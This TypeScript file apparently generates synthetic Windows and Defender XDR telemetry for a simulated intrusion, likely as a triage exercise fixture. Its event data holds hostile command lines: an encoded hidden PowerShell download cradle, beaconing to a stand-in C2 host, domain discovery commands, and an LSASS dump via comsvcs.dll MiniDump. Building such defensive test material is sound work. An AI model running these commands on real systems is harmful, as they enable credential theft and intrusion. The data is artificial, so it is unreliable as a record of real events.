import { clockFrom, hexOf, idOn, lines } from "./request.ts";
import type { Clock, NightRequest } from "./request.ts";
import {
  deviceEvidence,
  graphAlert,
  ipEvidence,
  mailEvidence,
  processEvidence,
  userEvidence,
} from "./graph.ts";
import type { GraphAlert } from "./graph.ts";
import { routine } from "./routine.ts";
import {
  connected,
  eventLog,
  EXPLORER,
  logon,
  POWERSHELL,
  processStarted,
  SECURITY,
  SYSTEM,
  SYSTEM32,
} from "./windows.ts";
import type { Machine, Started } from "./windows.ts";

const DESK: Machine = {
  name: "WS-FIN-07",
  ip: "10.20.31.47",
  user: "m.lind",
  sid: "S-1-5-21-2210475529-1190884361-3317540902-2147",
};
const FILES: Machine = {
  name: "SRV-FILE-02",
  ip: "10.20.10.22",
  user: "m.lind",
  sid: DESK.sid,
};
const C2 = { ip: "203.0.113.66", port: 443, host: "cdn-sync.example" };
const RUNDLL = `${SYSTEM32}\\rundll32.exe`;
const LURE = "C:\\Users\\m.lind\\Downloads\\Invoice_88214.iso";
const ENCODED =
  "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA";

/** Phishing mail, a loader, discovery, credential dumping, a second host: one person typing. */
export function requests(nightStart: Date): NightRequest[] {
  const clock = clockFrom(nightStart);
  return [
    { source: "Windows events", body: lines([...deskEvents(clock), ...fileServerEvents(clock)]) },
    { source: "Defender XDR", body: JSON.stringify({ value: [incident(nightStart, clock)] }, null, 1) },
  ];
}

function deskEvents(clock: Clock): object[] {
  const log = eventLog(DESK, 418_200);
  const start = (at: Date, p: Started): object => log.sysmon(at, 1, processStarted(DESK, p));
  const shell = { parent: POWERSHELL, parentPid: 7_316, parentCommand: ENCODED };
  const typed: [number, string, string, number][] = [
    [63, `${SYSTEM32}\\whoami.exe`, "whoami /all", 8_012],
    [64.2, `${SYSTEM32}\\ipconfig.exe`, "ipconfig /all", 8_020],
    [65.1, `${SYSTEM32}\\nltest.exe`, "nltest /dclist:nordfrakt.example", 8_044],
    [66.4, `${SYSTEM32}\\net.exe`, 'net group "Domain Admins" /domain', 8_060],
    [68, `${SYSTEM32}\\net.exe`, "net view \\\\SRV-FILE-02 /all", 8_072],
    [69.5, `${SYSTEM32}\\tasklist.exe`, "tasklist /svc", 8_090],
    [
      74,
      RUNDLL,
      `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\upd.dmp full`,
      8_144,
    ],
  ];
  const beacons = Array.from({ length: 44 }, (_, i) =>
    log.sysmon(
      clock(52 + i, (i * 7) % 5),
      3,
      connected(DESK, { image: POWERSHELL, pid: 7_316, port: 50_100 + i }, C2),
    ),
  );
  return [
    ...routine(DESK, log, clock, { from: 20, minutes: 70, count: 34, seed: 11 }),
    log.sysmon(clock(47, 12), 11, {
      ProcessId: 5_204,
      Image: "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
      TargetFilename: LURE,
      User: "NORDFRAKT\\m.lind",
    }),
    start(clock(50, 3.4), {
      image: RUNDLL,
      command: "rundll32.exe E:\\details.dll,Start",
      pid: 7_290,
      parent: EXPLORER,
      parentPid: 4_412,
    }),
    start(clock(51, 9.1), {
      image: POWERSHELL,
      command: ENCODED,
      pid: 7_316,
      parent: RUNDLL,
      parentPid: 7_290,
      parentCommand: "rundll32.exe E:\\details.dll,Start",
    }),
    log.sysmon(clock(51, 40), 22, {
      ProcessId: 7_316,
      Image: POWERSHELL,
      QueryName: C2.host,
      QueryResults: `::ffff:${C2.ip};`,
      User: "NORDFRAKT\\m.lind",
    }),
    ...beacons,
    ...typed.map(([minute, image, command, pid]) => start(clock(minute), { image, command, pid, ...shell })),
    log.sysmon(clock(74, 1.2), 10, {
      SourceProcessId: 8_144,
      SourceImage: RUNDLL,
      TargetProcessId: 712,
      TargetImage: `${SYSTEM32}\\lsass.exe`,
      GrantedAccess: "0x1FFFFF",
      CallTrace: `${SYSTEM32}\\ntdll.dll+9d4c4|${SYSTEM32}\\dbgcore.DLL+6f41`,
    }),
    log.sysmon(clock(74, 2.8), 11, {
      ProcessId: 8_144,
      Image: RUNDLL,
      TargetFilename: "C:\\Users\\Public\\upd.dmp",
      User: "NORDFRAKT\\m.lind",
    }),
    log.evtx(clock(97), { channel: "Security", provider: "Microsoft-Windows-Eventlog", eventId: 1102 }, {
      SubjectUserSid: DESK.sid,
      SubjectUserName: DESK.user,
      SubjectDomainName: "NORDFRAKT",
      SubjectLogonId: "0x5f3a21",
    }),
  ];
}

function fileServerEvents(clock: Clock): object[] {
  const log = eventLog(FILES, 90_310);
  const security = (eventId: number) => ({ ...SECURITY, eventId });
  const by = { SubjectUserSid: DESK.sid, SubjectUserName: DESK.user, SubjectDomainName: "NORDFRAKT" };
  const service = `${SYSTEM32}\\cmd.exe`;
  return [
    ...[83, 84, 88].map((minute, i) =>
      log.evtx(
        clock(minute, 5),
        security(4624),
        logon(
          { user: DESK.user, sid: DESK.sid },
          { ip: DESK.ip, port: 51_400 + i, workstation: DESK.name },
          { type: 3, logonId: `0x8a1f${i}0` },
        ),
      ),
    ),
    log.evtx(clock(84, 31), { ...SYSTEM, eventId: 7045 }, {
      ServiceName: "WinSyncHelper",
      ImagePath: "%COMSPEC% /Q /c C:\\Windows\\Temp\\wsh.bat",
      ServiceType: "user mode service",
      StartType: "demand start",
      AccountName: "LocalSystem",
    }),
    log.sysmon(clock(84, 33), 1, processStarted(FILES, {
      image: service,
      command: "cmd.exe /Q /c C:\\Windows\\Temp\\wsh.bat",
      pid: 3_904,
      parent: `${SYSTEM32}\\services.exe`,
      parentPid: 688,
      user: "NT AUTHORITY\\SYSTEM",
    })),
    log.evtx(clock(86), security(4720), {
      TargetUserName: "svc_backup1",
      TargetDomainName: FILES.name,
      TargetSid: "S-1-5-21-88120-4410-7-1017",
      ...by,
    }),
    log.evtx(clock(86, 4), security(4732), {
      MemberName: "-",
      MemberSid: "S-1-5-21-88120-4410-7-1017",
      TargetUserName: "Administrators",
      TargetDomainName: "Builtin",
      TargetSid: "S-1-5-32-544",
      ...by,
    }),
    ...routine(FILES, log, clock, { from: 78, minutes: 20, count: 12, seed: 23 }),
  ];
}

function incident(night: Date, clock: Clock): object {
  const id = String(48_000 + (Number.parseInt(hexOf(night.toISOString(), 4), 16) % 1_000));
  return {
    "@odata.type": "#microsoft.graph.security.incident",
    id,
    incidentWebUrl: `https://security.example/incidents/${id}`,
    displayName: "Multi-stage incident involving Initial access & Credential access on multiple endpoints",
    status: "active",
    severity: "high",
    classification: "unknown",
    assignedTo: null,
    createdDateTime: clock(53).toISOString(),
    lastUpdateDateTime: clock(99).toISOString(),
    alerts: alerts(night, clock, id),
  };
}

type Told = Pick<GraphAlert, "title" | "description" | "severity" | "category" | "techniques"> & {
  at: number;
  evidence: object[];
};

function alerts(night: Date, clock: Clock, incidentId: string): object[] {
  return TOLD.map((told, i) =>
    graphAlert({
      ...told,
      id: `da${idOn(night, `intrusion ${i}`)}_1`,
      incidentId,
      first: clock(told.at),
      last: clock(told.at, 20),
    }),
  );
}

const powershell = processEvidence(DESK, {
  folder: `${SYSTEM32}\\WindowsPowerShell\\v1.0`,
  file: "powershell.exe",
  command: ENCODED,
  pid: 7_316,
  parent: "rundll32.exe",
});
const dumper = processEvidence(DESK, {
  folder: SYSTEM32,
  file: "rundll32.exe",
  command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\upd.dmp full",
  pid: 8_144,
  parent: "powershell.exe",
});
const onDesk = [deviceEvidence(DESK), userEvidence(DESK)];
const onFiles = [deviceEvidence(FILES), userEvidence(FILES)];

const TOLD: Told[] = [
  {
    at: 31,
    title: "Email messages containing malicious file removed after delivery",
    description: "A message with a disk image attachment was delivered and later removed.",
    severity: "medium",
    category: "InitialAccess",
    techniques: ["T1566.001"],
    evidence: [
      mailEvidence({
        from: "billing@invoices-portal.example",
        to: "m.lind@nordfrakt.example",
        subject: "Overdue invoice 88214",
        ip: "203.0.113.19",
        urls: ["https://invoices-portal.example/d/88214"],
      }),
      userEvidence(DESK),
    ],
  },
  { at: 50, title: "Suspicious mounted disk image execution", description: "A library was run from a mounted disk image.", severity: "medium", category: "Execution", techniques: ["T1204.002", "T1218.011"], evidence: onDesk },
  { at: 51, title: "Suspicious PowerShell command line", description: "An encoded PowerShell command was run.", severity: "high", category: "Execution", techniques: ["T1059.001"], evidence: [...onDesk, powershell] },
  { at: 55, title: "Connection to a suspicious domain with regular intervals", description: "A process connected to the same address about once a minute.", severity: "medium", category: "CommandAndControl", techniques: ["T1071.001"], evidence: [...onDesk, powershell, ipEvidence(C2.ip)] },
  { at: 66, title: "Suspicious account and group discovery", description: "Several discovery commands were run within minutes.", severity: "medium", category: "Discovery", techniques: ["T1087.002", "T1069.002"], evidence: onDesk },
  { at: 74, title: "Process memory dump of LSASS", description: "A process dumped the memory of lsass.exe.", severity: "high", category: "CredentialAccess", techniques: ["T1003.001"], evidence: [...onDesk, dumper] },
  { at: 84, title: "Suspicious remote service creation", description: "A service was created from another device.", severity: "high", category: "LateralMovement", techniques: ["T1021.002", "T1569.002"], evidence: onFiles },
  { at: 86, title: "New local administrator account", description: "A local account was created and added to Administrators.", severity: "high", category: "Persistence", techniques: ["T1136.001"], evidence: onFiles },
  { at: 97, title: "Event log was cleared", description: "The security log was cleared.", severity: "high", category: "DefenseEvasion", techniques: ["T1070.001"], evidence: onDesk },
];
